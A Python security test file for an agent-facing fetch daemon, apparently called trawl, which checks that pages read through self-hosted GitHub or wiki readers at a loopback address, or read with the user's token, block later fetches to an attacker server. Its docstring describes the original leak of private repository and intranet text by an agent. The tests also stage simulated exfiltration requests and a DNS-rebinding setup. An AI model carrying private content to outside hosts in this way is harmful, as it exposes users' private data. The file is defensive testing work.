"""An attacker's-eye review of the site readers against exits by information flow (exitflow.py): a page a reader
served counted as public because its source is a reader, whatever the reader connected to and whatever it sent.

* A self-hosted wiki or GitHub Enterprise (``TRAWL_READER_MEDIAWIKI_API``, ``TRAWL_READER_GITHUB_API``) under a
  public-looking name at a loopback or private address is a local service, as it is read through the HTTP source:
  its pages taint the session. The readers recorded no address, so the intranet wiki's page went out to anyone.
* A reader that sent the user's credential (``TRAWL_READER_GITHUB_TOKEN``: a token reads the user's private
  repositories) read what is behind the user's login: private content, on any host, one the user named as serving
  public pages included. The page counted as public, and the agent sent the private repository's text on.

Real daemon over its real HTTP API, the real readers against fake APIs, a real attacker server; the name
``rebind.test`` resolves to 127.0.0.1 through the seam the address tests use (``socket.getaddrinfo``)."""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from trawl.server.runner import RunningDaemon
from trawl.settings import Settings
from trawl.sources.http import HttpSource
from trawl.sources.readers import all_readers

from tests.integration.test_daemon_helpers import daemon_settings
from tests.readers_fake import Sites, start_sites, stop_sites
from tests.security.test_exits import Server
from tests.security.test_exits import attacker as attacker  # the fixture
from tests.security.test_private_hosts import Rebinding, v1_fetch

pytestmark = [pytest.mark.timeout(120)]

NAME = "rebind.test"
GITHUB_TOKEN = "ghp_Rk7Wq2Lm9Xt4Vb8Np3Hd6Ys1Jc5Fg0Ta2Eu"


@pytest.fixture
async def sites() -> AsyncIterator[Sites]:
    s = await start_sites()
    yield s
    await stop_sites(s)


@pytest.fixture
def name_at_loopback(monkeypatch: pytest.MonkeyPatch) -> Rebinding:
    resolver = Rebinding([["127.0.0.1"]])
    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    return resolver


def _settings(tmp_path: Path, sites: Sites, **kw: Any) -> Settings:
    return daemon_settings(
        tmp_path, allow_private_hosts=True,
        reader_github_api=f"http://{NAME}:{sites.github.port}/api/v3",
        reader_mediawiki_api=f"http://{NAME}:{sites.wiki.port}/w/api.php", **kw)


@pytest.mark.parametrize("reader", ["github", "mediawiki"])
async def test_a_self_hosted_api_at_a_loopback_address_is_private_content(
    tmp_path: Path, sites: Sites, attacker: Server, name_at_loopback: Rebinding, reader: str,
) -> None:
    settings = _settings(tmp_path, sites)
    page = (f"http://{NAME}:{sites.github.port}/acme/widget/issues/42" if reader == "github"
            else f"http://{NAME}:{sites.wiki.port}/wiki/Lake_Vostok")
    async with RunningDaemon(settings, sources=[*all_readers(settings), HttpSource(settings)], warm=False) as d:
        read = await v1_fetch(d, page, query="what does it say")
        assert read["ok"] is True and read["source"] == reader, read
        out = await v1_fetch(d, f"{attacker.url}/c?k=from-the-intranet-wiki", query="")
    assert name_at_loopback.calls >= 1
    assert out["ok"] is False and out["error"]["code"] == "exit_held", out
    assert attacker.hits == []


async def test_a_page_read_with_the_users_token_is_private_content(
    tmp_path: Path, sites: Sites, attacker: Server, name_at_loopback: Rebinding,
) -> None:
    # The user says the host's pages are public (true for anyone reading without the token).
    settings = _settings(tmp_path, sites, reader_github_token=GITHUB_TOKEN, exit_public_hosts=(NAME,))
    page = f"http://{NAME}:{sites.github.port}/acme/widget/issues/42"
    async with RunningDaemon(settings, sources=[*all_readers(settings), HttpSource(settings)], warm=False) as d:
        read = await v1_fetch(d, page, query="what does it say")
        assert read["ok"] is True and read["source"] == "github", read
        assert any(h.headers.get("Authorization") == f"Bearer {GITHUB_TOKEN}" for h in sites.github.hits)
        out = await v1_fetch(d, f"{attacker.url}/c?k=from-a-private-repository", query="")
    assert out["ok"] is False and out["error"]["code"] == "exit_held", out
    assert attacker.hits == []
